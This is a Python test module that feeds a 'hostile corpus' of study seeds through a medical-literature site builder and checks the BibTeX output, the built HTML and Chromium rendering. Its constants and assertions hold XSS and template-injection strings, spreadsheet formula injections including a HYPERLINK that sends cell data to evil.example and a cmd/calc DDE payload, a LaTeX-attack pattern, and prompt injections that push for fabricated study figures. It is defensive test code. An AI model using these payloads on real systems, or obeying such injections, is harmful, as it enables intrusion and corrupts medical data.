"""The hostile corpus (tests/hostile/) through the whole pipeline: ingest, BibTeX, strict build.

Its seeds carry template syntax, active HTML, BibTeX/LaTeX breakers, spreadsheet formulas,
invisible characters and prompt injections around real studies. Nothing of it may run (no
template output, no active HTML in `site/`, no live LaTeX command in the bibliography), the real
fields read by hand (`tests/hostile/expected/`) must still be on the cards, and the build must
stay strict-green. README.md in that folder explains each breaker.
"""

from __future__ import annotations

import functools
import html
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from bibtexparser.entrypoint import parse_string
from bibtexparser.model import ExplicitComment, ImplicitComment

from macros.cards.cardfiles import load_cards
from macros.cards.model import Card
from macros.cards.project import Project
from macros.cards.taxonomy import default_taxonomy
from macros.commands.ingest import Report, ingest

from .browser import chromium, serve
from .conftest import ROOT, require_tool, sync_playwright_or_skip
from .sitebuild import build, copy_project

HOSTILE = ROOT / "tests" / "hostile"
SEEDS = sorted((HOSTILE / "seeds").glob("*.txt"))
EXPECTED = sorted((HOSTILE / "expected").glob("*.yml"))
# A seed copied under a hostile file name (not committed so: `<>` are not allowed on Windows).
RENAMED = {"web-fr-rmo-bidi-ansi.txt": "web-fr-rmo-bidi-ansi`<img src=x onerror=alert(1)>`.txt"}

INVISIBLE = re.compile(
    "[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c"  # bidi controls
    "\u200b\u200c\u200d\u2060\ufeff"  # zero-width characters
    "\x1b]"  # ESC, the start of an ANSI escape
)
TEMPLATE_PROBES = ("{{ 7*7 }}", "${7*7}", "<%= 7*7 %>")
CONFIG_DUMP = ("docs_dir", "site_dir", "MkDocsConfig", "mkdocs.config", "'theme':")
ACTIVE_TAGS = frozenset(
    {"script", "img", "svg", "iframe", "object", "embed", "frame", "frameset", "applet"}
    | {"form", "base", "meta", "link", "style", "math", "video", "audio", "source", "template"}
)
EMBEDDING_TAGS = frozenset({"iframe", "object", "embed", "frame", "frameset", "applet"})
URL_ATTRIBUTES = frozenset(
    {"href", "src", "xlink:href", "action", "formaction", "data", "poster", "background"}
)
DANGEROUS_URL = re.compile(r"^(?:javascript|vbscript|data\s*:\s*text/html)", re.I)
# Every backslash in a written BibTeX field starts one of the escapes of macros.cards.bib.
ESCAPE_COMMANDS = frozenset(
    {"textbackslash", "textbraceleft", "textbraceright", "textasciicircum", "textasciitilde"}
    | {"char", "%", "#", "&", "$", "_"}
)
LATEX_ATTACKS = re.compile(
    r"\\(?:write18|input|include|openout|openin|catcode|def|edef|gdef|immediate|csname|"
    r"newwrite|read|special|usepackage|makeatletter)(?![A-Za-z])"
)


# -- the corpus, ingested and built once ---------------------------------------------------------


@dataclass(frozen=True)
class Corpus:
    project: Path
    paths: Project
    report: Report
    cards: dict[str, Card]  # by the committed seed name
    others: list[Card]  # the project's own cards, also on the site
    build: subprocess.CompletedProcess[str]

    @property
    def site(self) -> Path:
        return self.project / "site"

    def study_page(self, card: Card) -> str:
        return (self.site / "studies" / card.id / "index.html").read_text("utf-8")


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    """The project copied, the hostile seeds ingested, their cards on the site, built strictly."""
    project = copy_project(tmp_path_factory.mktemp("hostile-corpus") / "project")
    seeds = project / "seeds"
    seeds.mkdir()
    for seed in SEEDS:
        shutil.copy2(seed, seeds / RENAMED.get(seed.name, seed.name))
    out = project / "ingest"
    paths = Project.at(
        project, seeds=seeds, cards=out / "cards", bib=out / "references.bib", state=out / "state"
    )
    report = ingest(paths, default_taxonomy())
    others = load_cards(project / "docs" / "cards")
    new = load_cards(paths.cards)
    assert not {c.id for c in new} & {c.id for c in others}, "hostile card ids must be new"
    assert not {c.citekey for c in new} & {c.citekey for c in others}
    for card_file in paths.cards.glob("*.yml"):
        shutil.copy2(card_file, project / "docs" / "cards" / card_file.name)
    original = {renamed: name for name, renamed in RENAMED.items()}
    cards = {original.get(Path(c.source.file).name, Path(c.source.file).name): c for c in new}
    result = build(project, project / "site")
    return Corpus(project, paths, report, cards, others, result)


def _expected(path: Path) -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load(path.read_text(encoding="utf-8"))
    return data


def _card(corpus: Corpus, expected: dict[str, Any]) -> Card:
    assert expected["seed"] in corpus.cards, f"no card was written for {expected['seed']}"
    return corpus.cards[expected["seed"]]


def squash(text: str) -> str:
    return " ".join(text.split())


# -- reading HTML as a browser would -------------------------------------------------------------


class _Page(HTMLParser):
    """Elements with their attributes, and the text a reader sees.

    `<title>` and `<textarea>` hold text only (RCDATA): a `<script>` inside them is no element,
    as in a browser; Python 3.11's parser does not know this, so it is told here.
    """

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self._raw_text: str | None = None  # inside script/style: not shown
        self._rcdata: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag in ("script", "style"):
            self._raw_text = tag
        elif tag in ("title", "textarea") and self._rcdata is None:
            self._rcdata = tag
            self.set_cdata_mode(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag: str) -> None:
        if tag == self._raw_text:
            self._raw_text = None
        if tag == self._rcdata:
            self._rcdata = None

    def handle_data(self, data: str) -> None:
        if self._raw_text is None:
            self.texts.append(html.unescape(data) if self._rcdata else data)

    @property
    def text(self) -> str:
        return squash(" ".join(self.texts))


def parse(markup: str) -> _Page:
    page = _Page()
    page.feed(markup)
    page.close()
    return page


SITE_URL = re.search(r"(?m)^site_url:\s*(\S+)", (ROOT / "mkdocs.yml").read_text("utf-8"))


def _relative(value: str) -> str:
    """Attribute values and inline scripts without the page's place: its depth (`../../`,
    `"base": ".."`) and its canonical URL."""
    if SITE_URL:
        value = re.sub(re.escape(SITE_URL.group(1)) + r"[^'\"\s]*", "SITE_URL", value)
    return re.sub(r'(?:\.\./)+|\./|"\.\.(?:/\.\.)*"|"\."', "", value)


def _script_signature(page: str) -> list[str]:
    """Each script of a page: its `src`, or its inline code."""
    signatures = []
    for match in re.finditer(r"<script\b([^>]*)>(.*?)</script>", page, re.S | re.I):
        attributes, code = match.groups()
        signatures.append(_relative(attributes.strip() + "\n" + code))
    return signatures


def _dangerous_url(value: str) -> bool:
    """`javascript:` however written: entities are decoded by the parser; case, white space and
    control characters inside the scheme are ignored by browsers."""
    return bool(DANGEROUS_URL.match(re.sub(r"[\x00-\x20\x7f]+", "", value)))


@functools.cache
def _baseline(site: Path) -> tuple[frozenset[str], frozenset[tuple[str, str]]]:
    """The scripts and the active elements (tag, attributes) of the untouched project's site."""
    scripts: set[str] = set()
    elements: set[tuple[str, str]] = set()
    for file in site.rglob("*.html"):
        markup = file.read_text("utf-8")
        scripts.update(_script_signature(markup))
        for tag, attributes in parse(markup).elements:
            if tag in ACTIVE_TAGS:
                elements.add((tag, _relative(repr(sorted(attributes.items())))))
    return frozenset(scripts), frozenset(elements)


# -- ingest: every seed read, the real fields still there ----------------------------------------


def test_ingest_reads_every_hostile_seed(corpus: Corpus) -> None:
    assert len(SEEDS) == len(EXPECTED) >= 3
    assert corpus.report.errors == []
    assert corpus.report.read == corpus.report.written == len(SEEDS)
    assert sorted(corpus.cards) == sorted(_expected(p)["seed"] for p in EXPECTED)


SCALARS = ("title", "journal", "year", "volume", "issue", "pages", "doi", "pmid")
STUDY = ("topic", "design", "participants")


@pytest.mark.parametrize("path", EXPECTED, ids=[p.stem for p in EXPECTED])
def test_real_fields_are_still_extracted(path: Path, corpus: Corpus) -> None:
    """Title, authors, journal, year, DOI, design and size as read by hand, breakers or not."""
    expected = _expected(path)
    card = _card(corpus, expected)
    actual: dict[str, Any] = {name: getattr(card, name) for name in SCALARS + STUDY}
    actual["format"] = card.source.format
    actual["authors"] = [{"family": a.family, "given": a.given} for a in card.authors]
    via = card.source.via
    actual["via"] = {"outlet": via.outlet, "date": str(via.date)} if via else None
    wanted = {name: expected[name] for name in actual}
    wrong = {name: (wanted[name], actual[name]) for name in actual if wanted[name] != actual[name]}
    assert not wrong, f"(read by hand, on the card) per field: {wrong}"


_FINDING_NUMBERS = ("numerator", "denominator", "percent", "mean", "sd", "ci_low", "ci_high")


@pytest.mark.parametrize("path", EXPECTED, ids=[p.stem for p in EXPECTED])
def test_hand_read_findings_are_on_the_card(path: Path, corpus: Corpus) -> None:
    """Numbers with bidi overrides, zero-width characters or ANSI codes inside are read whole."""
    expected = _expected(path)
    card = _card(corpus, expected)
    missing = []
    for wanted in expected["findings"]:
        matches = [f for f in card.findings if wanted["quote_contains"] in squash(f.quote)]
        if not any(
            all(
                getattr(f, key) == wanted[key]
                for key in (*_FINDING_NUMBERS, "p_value", "p_operator")
                if key in wanted
            )
            and wanted.get("value_contains", "") in f.value
            for f in matches
        ):
            missing.append(wanted)
    shown = "\n".join(f"{f.value} | {squash(f.quote)[:100]}" for f in card.findings)
    assert not missing, f"not on the card: {missing}\ncard findings:\n{shown}"


@pytest.mark.parametrize("path", EXPECTED, ids=[p.stem for p in EXPECTED])
def test_hand_read_cases_are_on_the_card(path: Path, corpus: Corpus) -> None:
    expected = _expected(path)
    card = _card(corpus, expected)
    rows = expected["cases"]
    assert [c.case for c in card.cases] == [r["case"] for r in rows]
    problems = []
    for row, case in zip(rows, card.cases, strict=True):
        for key, value in row.items():
            actual = getattr(case, key)
            if key in ("treatment", "follow_up"):
                if value.lower() not in (actual or "").lower():
                    problems.append(f"case {row['case']} {key}: {value!r} not in {actual!r}")
            elif actual != value:
                problems.append(f"case {row['case']} {key}: {actual!r} != {value!r}")
    assert not problems, "\n".join(problems)


def test_prompt_injections_change_nothing(corpus: Corpus) -> None:
    """Injections ask for a hazard ratio of 99, the year 1999, 99 patients, 100% (99/99): no
    value obeys, and no injection sentence becomes a finding, a case value or a review status."""
    for card in corpus.cards.values():
        assert card.review.status != "reviewed", card.id
        assert card.year != 1999, card.id
        assert card.participants != 99, card.id
        for finding in card.findings:
            numbers = [getattr(finding, key) for key in _FINDING_NUMBERS]
            assert 99 not in numbers, (card.id, finding)
            assert finding.percent != 100, (card.id, finding)
            assert "Ignore previous" not in finding.quote, (card.id, finding.quote)
            assert not re.search(r"\b99\b", finding.value), (card.id, finding.value)
        for case in card.cases:
            assert "died" not in case.model_dump_json(), (card.id, case)
    hazard = corpus.cards["semantic-scholar-isotretinoin-hazard-injection.txt"]
    ratio = [f for f in hazard.findings if "hazard ratio" in f.quote]
    assert [f.value for f in ratio] == ["hazard ratio 2.41, 95% CI 1.32–4.40, p = 0.004"]


# -- the site: built strictly, nothing runs ------------------------------------------------------


def test_the_strict_build_passes(corpus: Corpus) -> None:
    assert corpus.build.returncode == 0, corpus.build.stdout + corpus.build.stderr
    for card in corpus.cards.values():
        assert (corpus.site / "studies" / card.id / "index.html").is_file()


def _card_texts(card: Card) -> list[str]:
    """Every piece of card text a study page shows."""
    texts = [card.title or "", card.journal or "", card.source.file, *card.review.notes]
    texts += [f"{a.family} {a.given or ''}".strip() for a in card.authors]
    for finding in card.findings:  # `value` is not shown: its figures are, normalised
        texts += [finding.label, finding.quote]
    for case in card.cases:
        texts += [v for v in case.model_dump().values() if isinstance(v, str)]
    return [squash(t) for t in texts if t.strip()]


def test_template_syntax_is_shown_not_run(corpus: Corpus) -> None:
    """`{{ 7*7 }}`, `{% raw %}` break-outs, `{# #}`, `${}` and `<%= %>` read as written on every
    study page; nowhere in site/ is the evaluated text (`49`) or a dump of the config object."""
    pages = {p: parse(p.read_text("utf-8")).text for p in corpus.site.rglob("*.html")}
    problems = []
    for card in corpus.cards.values():
        shown = parse(corpus.study_page(card)).text
        for text in _card_texts(card):
            if text not in shown:
                problems.append(f"studies/{card.id}/ does not show {text!r}")
            for probe in (p for p in TEMPLATE_PROBES if p in text):
                evaluated = text.replace(probe, "49")
                problems += [
                    f"{p}: evaluated {evaluated!r}" for p, t in pages.items() if evaluated in t
                ]
    problems += [f"{p}: {w!r}" for p, t in pages.items() for w in CONFIG_DUMP if w in t]
    everything = " ".join(pages.values())
    for literal in ("{% raw %}with acne{% endraw %}{{ config }}", "{# hidden #}", "${7*7}"):
        if literal not in everything:
            problems.append(f"{literal!r} is shown nowhere")
    assert not problems, "\n".join(problems)


def test_no_active_html_in_the_site(corpus: Corpus, built_site: Path) -> None:
    """Parsed page by page: only the theme's own scripts and icons; no event handler, no
    `javascript:` URL, no embedded frame or object, whatever the seeds held."""
    scripts, elements = _baseline(built_site)
    problems = []
    for file in sorted(corpus.site.rglob("*.html")):
        markup = file.read_text("utf-8")
        where = file.relative_to(corpus.site).as_posix()
        problems += [
            f"{where}: script not in the theme's: {s[:160]!r}"
            for s in _script_signature(markup)
            if s not in scripts
        ]
        for tag, attributes in parse(markup).elements:
            handlers = [name for name in attributes if name.startswith("on")]
            urls = [
                f"{name}={value!r}"
                for name, value in attributes.items()
                if name in URL_ATTRIBUTES and _dangerous_url(value)
            ]
            if handlers or urls:
                problems.append(f"{where}: <{tag}> with {handlers + urls}")
            signature = (tag, _relative(repr(sorted(attributes.items()))))
            if tag in EMBEDDING_TAGS or (
                tag in ACTIVE_TAGS - {"script"}
                and signature not in elements
                and not _forest_plot(tag, attributes)
            ):
                problems.append(f"{where}: <{tag} {attributes}> is not the theme's")
    assert not problems, "\n".join(problems)


def _forest_plot(tag: str, attributes: dict[str, str]) -> bool:
    """A forest plot the build drew (`macros/site/forest.py`): its id is made from its data, so
    no baseline site has it; its links and text were checked above like any other element's."""
    ident = attributes.get("id", "")
    return tag == "svg" and attributes.get("class") == "forest-plot" and ident.startswith("forest-")


def test_hostile_html_is_visible_text(corpus: Corpus) -> None:
    """The tags the seeds carry are shown as text where card text holds them."""
    shown = parse(corpus.study_page(corpus.cards["pubmed-isotretinoin-template-breakers.txt"]))
    assert "MRI <%= 7*7 %> confirmed active sacroiliitis" in shown.text
    page = corpus.cards["semantic-scholar-isotretinoin-hazard-injection.txt"]
    assert "risk </title><script>alert(1)</script> {{ 7*7 }}" in parse(corpus.study_page(page)).text


def test_fake_citations_stay_text(corpus: Corpus) -> None:
    """`[@Erol2025]` in a seed is no citation: no numbered link, no reference list."""
    for card in corpus.cards.values():
        page = corpus.study_page(card)
        assert 'class="citation"' not in page, card.id
        assert 'class="references"' not in page, card.id
    pubmed = corpus.cards["pubmed-isotretinoin-template-breakers.txt"]
    assert "(35.7%) [@Erol2025]." in parse(corpus.study_page(pubmed)).text


def test_no_invisible_characters_from_seeds(corpus: Corpus) -> None:
    """Bidi controls, zero-width characters and ESC stop at ingest: not in cards, bibliography,
    pages, search index, downloads."""
    files = [*corpus.paths.cards.glob("*.yml"), corpus.paths.bib]
    suffixes = {".html", ".json", ".xml", ".yml", ".bib", ".ris", ".txt"}
    files += [p for p in corpus.site.rglob("*") if p.suffix in suffixes]
    found = {
        p.as_posix(): sorted({f"U+{ord(c):04X}" for c in INVISIBLE.findall(p.read_text("utf-8"))})
        for p in files
    }
    assert {p: chars for p, chars in found.items() if chars} == {}


def test_spreadsheet_formulas_stay_inert_text(corpus: Corpus) -> None:
    """The project writes no CSV or spreadsheet; formulas stay text of the card and the page."""
    assert not [p for p in (ROOT / "macros").rglob("*.py") if re.search(r"\bcsv\b", p.read_text())]
    assert not [p for p in corpus.site.rglob("*") if p.suffix in (".csv", ".tsv", ".xlsx")]
    pdf = corpus.cards["pdf-crmo-case-breakers.txt"]
    web = corpus.cards["web-fr-rmo-bidi-ansi.txt"]
    for card, formula in (
        (pdf, '=HYPERLINK("http://evil.example/x?d="&A1,"open the images")'),
        (pdf, "+cmd|' /C calc'!A0"),
        (pdf, "@SUM(1+1)"),
        (web, '=HYPERLINK("http://evil.example","cliquez")'),
    ):
        assert any(formula in text for text in _card_texts(card)), (card.id, formula)
        assert formula in parse(corpus.study_page(card)).text, (card.id, formula)


# -- BibTeX: every breaker stays escaped text ----------------------------------------------------


def _check_bibliography(text: str, cards: list[Card]) -> None:
    library = parse_string(text)
    assert library.failed_blocks == []
    assert library.strings == []
    assert library.preambles == []
    assert not [b for b in library.comments if isinstance(b, ExplicitComment)]
    assert all(isinstance(b, ImplicitComment) for b in library.comments)
    assert sorted(e.key for e in library.entries) == sorted(c.citekey for c in cards)
    assert text.count("@") == len(cards), "an `@` outside an entry's start opens a new block"
    for entry in library.entries:
        for field in entry.fields:
            value = str(field.value)
            depth = 0
            for char in value:  # BibTeX counts every brace, escaped or not
                depth += {"{": 1, "}": -1}.get(char, 0)
                assert depth >= 0, (entry.key, field.key, value)
            assert depth == 0, (entry.key, field.key, value)
            commands = set(re.findall(r"\\([A-Za-z]+|.)", value))
            assert commands <= ESCAPE_COMMANDS, (entry.key, field.key, commands - ESCAPE_COMMANDS)
            assert not LATEX_ATTACKS.search(value), (entry.key, field.key, value)


def test_ingest_bibliography_keeps_breakers_escaped(corpus: Corpus) -> None:
    text = corpus.paths.bib.read_text("utf-8")
    _check_bibliography(text, list(corpus.cards.values()))
    for breaker in ("write18", "input", "comment"):  # present, as escaped text
        assert f"\\textbackslash{{}}{breaker}" in text or f"\\char64{{}}{breaker}" in text


def test_site_bibliography_download_keeps_breakers_escaped(corpus: Corpus) -> None:
    text = (corpus.site / "bibliography" / "references.bib").read_text("utf-8")
    _check_bibliography(text, [*corpus.cards.values(), *corpus.others])


def test_real_bibtex_reads_the_bibliography_without_live_commands(
    corpus: Corpus, tmp_path: Path
) -> None:
    bibtex = require_tool("bibtex")
    cards = list(corpus.cards.values())
    shutil.copy2(corpus.paths.bib, tmp_path / "references.bib")
    cites = ",".join(c.citekey for c in cards)
    (tmp_path / "doc.aux").write_text(
        f"\\relax\n\\citation{{{cites}}}\n\\bibstyle{{plain}}\n\\bibdata{{references}}\n",
        encoding="utf-8",
    )
    run = subprocess.run([bibtex, "doc"], cwd=tmp_path, capture_output=True, text=True, timeout=60)
    # bibtex exits 1 for warnings (a card without journal) and 2 for errors.
    assert run.returncode in (0, 1), run.stdout + run.stderr
    assert "error message" not in run.stdout, run.stdout
    bbl = (tmp_path / "doc.bbl").read_text(encoding="utf-8", errors="replace")
    assert bbl.count("\\bibitem") == len(cards)
    assert all(f"{{{c.citekey}}}" in bbl for c in cards)
    assert not LATEX_ATTACKS.search(bbl), LATEX_ATTACKS.search(bbl)


# -- a real browser: nothing runs ----------------------------------------------------------------


@pytest.fixture(scope="module")
def served(corpus: Corpus) -> Iterator[str]:
    with serve(corpus.site) as url:
        yield url


def test_nothing_runs_in_chromium(corpus: Corpus, served: str) -> None:
    """Every page that shows hostile card text, opened in Chromium: no dialog ever opens."""
    chromium = os.environ.get("CHROMIUM") or require_tool("chromium")
    sync_playwright = sync_playwright_or_skip()
    urls = [f"studies/{c.id}/" for c in corpus.cards.values()]
    urls += [f"topics/{slug}/" for slug in sorted({c.topic for c in corpus.cards.values()})]
    urls += ["", "bibliography/", "changes/"]
    dialogs: list[str] = []
    args = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=args)
        try:
            page = browser.new_page()

            def record(dialog: Any) -> None:
                dialogs.append(f"{page.url}: {dialog.type} {dialog.message!r}")
                dialog.dismiss()

            page.on("dialog", record)
            for url in urls:
                page.goto(f"{served}/{url}", wait_until="load")
                page.wait_for_timeout(100)  # onerror/onload handlers fire after load
        finally:
            browser.close()
    assert dialogs == []


RESULT_TAGS = {"li", "a", "div", "h1", "p", "mark"}  # what search.js builds a result of


def test_search_results_show_hostile_text_as_text(served: str) -> None:
    """Search results (Pagefind's titles and excerpts, put on the page by search.js) hold only
    the elements search.js makes, and the tags of card text as visible text. Its own Chromium:
    the session's would still run when a later module starts Playwright."""
    dialogs: list[str] = []

    def record(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    with chromium() as browser:
        page = browser.new_page()
        page.on("dialog", record)
        page.goto(f"{served}/", wait_until="load")
        page.keyboard.press("/")
        page.keyboard.type("alert")
        results = page.locator(".md-search-result__item:not([hidden])")
        results.first.wait_for(timeout=20_000)
        page.wait_for_timeout(500)  # the other results' fragments
        tags = page.evaluate(
            "[...document.querySelectorAll('.md-search-result__list *')]"
            ".map((e) => e.tagName.toLowerCase())"
        )
        shown = results.all_inner_texts()
    assert set(tags) <= RESULT_TAGS, set(tags) - RESULT_TAGS
    assert any("<script>alert(1)</script>" in text for text in shown), shown
    assert dialogs == []
